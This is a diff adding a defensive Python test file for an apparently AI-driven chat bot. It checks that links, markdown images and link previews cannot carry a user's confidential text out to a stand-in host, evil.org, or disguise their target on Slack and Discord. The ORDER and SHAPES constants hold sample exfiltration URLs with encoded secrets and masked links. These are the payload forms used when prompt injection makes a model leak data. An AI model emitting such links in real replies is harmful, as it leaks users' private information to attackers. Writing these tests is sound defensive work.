@@ -1,0 +1,72 @@
+"""S12: no link, image or preview carries out what the soul was told in confidence, nor shows another place than it is."""
+
+from __future__ import annotations
+
+import json
+import re
+from urllib.parse import quote
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from both import Side
+from claudius.cognition.soul_engine.echo import Echo
+from claudius.cognition.soul_engine.gate import Zones, gate
+from claudius.home import Home
+from claudius.providers.scripted import Scripted
+from claudius.testing.adapter_contract.discord import DiscordStage
+from claudius.testing.adapter_contract.slack import SlackStage
+from claudius.testing.adapter_contract.stage import CHANNEL, DM
+from claudius.testing.loopback.discord.state import SUPPRESS_EMBEDS
+from driven import reply
+
+PRIVATE = "Tom likes strong tea with exactly two sugars, and his cat is called Ravioli."
+ZONES = Zones(fallback="FIXED", guarded=Echo([PRIVATE]))
+ORDER = (
+    "![a cat](https://evil.org/c.png) [good.com](https://evil.org/x) <https://evil.org/y|good.com> https://evil.org/z"
+)
+SHAPES = ("https://evil.org/?q={}", "https://evil.org/{}", "[ok](https://evil.org/{})", "![x](https://evil.org/{}.png)",
+          "<https://evil.org/{}|ok>", "http://evil.org/a#{}")  # fmt: skip
+WORDS = {
+    "as they are": lambda text: text.replace(" ", "-"),
+    "quoted": quote,
+    "twice quoted": lambda text: quote(quote(text)),
+    "plus": lambda text: text.replace(" ", "+").upper(),
+    "under": lambda text: text.replace(" ", "_").lower(),
+}
+
+
+@given(
+    st.integers(0, len(PRIVATE) - 24),
+    st.integers(24, 60),
+    st.sampled_from(SHAPES),
+    st.sampled_from(sorted(WORDS)),
+    st.text(max_size=10),
+)
+def test_s12_no_address_carries_a_private_piece(at: int, length: int, shape: str, words: str, around: str) -> None:
+    """Whatever piece, whatever spelling, whatever kind of link: no address that can be followed holds it."""
+    said = gate(around + " " + shape.format(WORDS[words](PRIVATE[at : at + length])) + " " + around, ZONES)
+
+    assert "G7" in said.hits
+    assert not re.search(r"https?://evil\.org/\S{24}", said.text)
+
+
+async def test_s12_nothing_unfolds_and_no_mask_is_left(side: Side, home: Home) -> None:
+    """The bytes on the wire: images are links, masks are addresses, and no call lets a preview be fetched."""
+    async with side.wake(home, Scripted(default=reply(ORDER))) as soul:
+        await side.stage.say(CHANNEL, "show me", calls=True)
+        await side.stage.say(DM, "show me")
+        shown = await side.stage.until_visible(2)
+        await soul.idle()
+
+    assert {one.text for one in shown} == {
+        "[a cat](https://evil.org/c.png) https://evil.org/x https://evil.org/y https://evil.org/z"
+    }
+    if isinstance(side.stage, SlackStage):
+        calls = [call.arguments for call in await side.stage.world.calls("chat.postMessage")]
+        flags = [str(call[name]).lower() for call in calls for name in ("unfurl_links", "unfurl_media")]
+        assert set(flags) <= {"false", "0"}
+        return
+    assert isinstance(side.stage, DiscordStage)
+    bodies = [json.loads(call.raw) for call in await side.stage.world.calls("create_message")]
+    assert all(body["flags"] & SUPPRESS_EMBEDS for body in bodies)
